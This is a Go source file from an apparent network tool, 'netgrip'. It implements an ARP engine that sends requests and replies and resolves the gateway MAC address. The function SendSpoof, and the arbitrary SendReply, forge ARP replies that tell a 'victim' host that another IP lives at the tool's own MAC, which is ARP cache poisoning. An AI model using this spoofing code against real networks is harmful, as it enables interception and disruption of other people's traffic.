// Package arp transmits request, reply, and spoofed-reply frames on the bound
// capture handle and resolves the gateway hardware address.
package arp

import (
	"fmt"
	"log"
	"net"
	"sync"
	"time"

	"netgrip/internal/arpwire"
	"netgrip/internal/errdefs"
	"netgrip/internal/platform"
	"netgrip/internal/topology"
)

// Engine sends ARP frames for one topology over one capture handle. Frame
// transmission on the handle is ordered by call order; topology reads take a
// shared lock so a refresh can swap the gateway MAC in place.
type Engine struct {
	port   platform.Port
	logger *log.Logger

	mu     sync.RWMutex
	topo   *topology.Topology
	handle platform.CaptureHandle

	stats Stats

	// probeDelay is the wait between the gateway probe and the neighbor-table
	// re-read.
	probeDelay time.Duration
}

// NewEngine returns an engine over the given port. Topology and handle are
// bound later by the owning manager.
func NewEngine(port platform.Port, logger *log.Logger) *Engine {
	if logger == nil {
		logger = log.Default()
	}
	return &Engine{
		port:       port,
		logger:     logger,
		probeDelay: 500 * time.Millisecond,
	}
}

// SetTopology binds the resolved topology. The engine keeps its own copy.
func (e *Engine) SetTopology(topo topology.Topology) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.topo = &topo
}

// SetHandle binds (or, with nil, unbinds) the capture handle.
func (e *Engine) SetHandle(h platform.CaptureHandle) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.handle = h
}

// Topology returns a snapshot of the bound topology, or a zero value when
// none is bound.
func (e *Engine) Topology() topology.Topology {
	e.mu.RLock()
	defer e.mu.RUnlock()
	if e.topo == nil {
		return topology.Topology{}
	}
	return *e.topo
}

// CanTransmit reports whether a capture handle is bound.
func (e *Engine) CanTransmit() bool {
	e.mu.RLock()
	defer e.mu.RUnlock()
	return e.handle != nil
}

// Stats exposes the shared performance aggregate.
func (e *Engine) Stats() *Stats {
	return &e.stats
}

// SendRequest broadcasts a who-has request for targetIP using the local
// addressing from the topology.
func (e *Engine) SendRequest(targetIP string) error {
	topo := e.Topology()
	if topo.LocalIP == "" {
		return fmt.Errorf("%w: no topology bound", errdefs.ErrNotInitialized)
	}

	target, err := arpwire.StringToIP(targetIP)
	if err != nil {
		return err
	}
	localMAC, localIP, err := localAddressing(topo)
	if err != nil {
		return err
	}

	start := time.Now()
	frame := arpwire.EncodeRequest(localMAC, localIP, target)
	return e.transmit(frame, start)
}

// SendReply sends an arbitrary reply, unicast to targetMAC.
func (e *Engine) SendReply(senderIP, targetIP, senderMAC, targetMAC string) error {
	sIP, err := arpwire.StringToIP(senderIP)
	if err != nil {
		return err
	}
	tIP, err := arpwire.StringToIP(targetIP)
	if err != nil {
		return err
	}
	sMAC, err := arpwire.StringToMAC(senderMAC)
	if err != nil {
		return err
	}
	tMAC, err := arpwire.StringToMAC(targetMAC)
	if err != nil {
		return err
	}

	start := time.Now()
	frame := arpwire.EncodeReply(sMAC, sIP, tMAC, tIP)
	return e.transmit(frame, start)
}

// SendSpoof sends the unsolicited reply that tells the victim spoofIP lives
// at our interface MAC.
func (e *Engine) SendSpoof(victimMAC, victimIP, spoofIP string) error {
	topo := e.Topology()
	if topo.InterfaceMAC == "" {
		return fmt.Errorf("%w: no topology bound", errdefs.ErrNotInitialized)
	}

	vMAC, err := arpwire.StringToMAC(victimMAC)
	if err != nil {
		return err
	}
	vIP, err := arpwire.StringToIP(victimIP)
	if err != nil {
		return err
	}
	sIP, err := arpwire.StringToIP(spoofIP)
	if err != nil {
		return err
	}
	ourMAC, err := arpwire.StringToMAC(topo.InterfaceMAC)
	if err != nil {
		return fmt.Errorf("%w: bad interface MAC %q", errdefs.ErrInvalidArgument, topo.InterfaceMAC)
	}

	start := time.Now()
	frame := arpwire.EncodeSpoof(vMAC, vIP, sIP, ourMAC)
	return e.transmit(frame, start)
}

// DiscoverGatewayMAC resolves the gateway hardware address: first from the
// neighbor table, then, when a handle is bound, by broadcasting one request
// and re-reading the table after a short wait. Bounded by an attempt counter;
// returns "" on failure.
func (e *Engine) DiscoverGatewayMAC(gatewayIP string) string {
	for attempt := 0; attempt < 2; attempt++ {
		if mac := e.lookupNeighbor(gatewayIP); mac != "" {
			return mac
		}
		if attempt > 0 || !e.CanTransmit() {
			break
		}
		if err := e.SendRequest(gatewayIP); err != nil {
			e.logger.Printf("arp: gateway probe for %s failed: %v", gatewayIP, err)
			break
		}
		time.Sleep(e.probeDelay)
	}
	return ""
}

// RefreshGatewayMAC re-runs discovery and, on a usable result, updates the
// topology's gateway MAC in place.
func (e *Engine) RefreshGatewayMAC() bool {
	topo := e.Topology()
	if topo.GatewayIP == "" || topo.GatewayIP == "0.0.0.0" {
		return false
	}

	mac := e.DiscoverGatewayMAC(topo.GatewayIP)
	if arpwire.IsZeroMAC(mac) {
		return false
	}

	e.mu.Lock()
	defer e.mu.Unlock()
	if e.topo == nil {
		return false
	}
	e.topo.GatewayMAC = mac
	e.logger.Printf("arp: gateway %s resolved to %s", topo.GatewayIP, mac)
	return true
}

func (e *Engine) transmit(frame []byte, start time.Time) error {
	e.mu.RLock()
	h := e.handle
	e.mu.RUnlock()

	if h == nil {
		e.stats.RecordSendDropped()
		return fmt.Errorf("%w: no open capture handle", errdefs.ErrNotTransmitted)
	}

	err := h.WritePacketData(frame)
	sampleMs := float64(time.Since(start).Microseconds()) / 1000.0
	e.stats.RecordSend(sampleMs, err == nil)
	if err != nil {
		return fmt.Errorf("%w: %v", errdefs.ErrSendFailed, err)
	}
	return nil
}

func (e *Engine) lookupNeighbor(ip string) string {
	entries, err := e.port.NeighborTable()
	if err != nil {
		e.logger.Printf("arp: neighbor table read failed: %v", err)
		return ""
	}
	for _, entry := range entries {
		if entry.IPAddress == ip {
			return entry.MACAddress
		}
	}
	return ""
}

func localAddressing(topo topology.Topology) (net.HardwareAddr, net.IP, error) {
	mac, err := arpwire.StringToMAC(topo.InterfaceMAC)
	if err != nil {
		return nil, nil, fmt.Errorf("%w: invalid local network configuration", errdefs.ErrInvalidArgument)
	}
	ip, err := arpwire.StringToIP(topo.LocalIP)
	if err != nil {
		return nil, nil, fmt.Errorf("%w: invalid local network configuration", errdefs.ErrInvalidArgument)
	}
	return mac, ip, nil
}
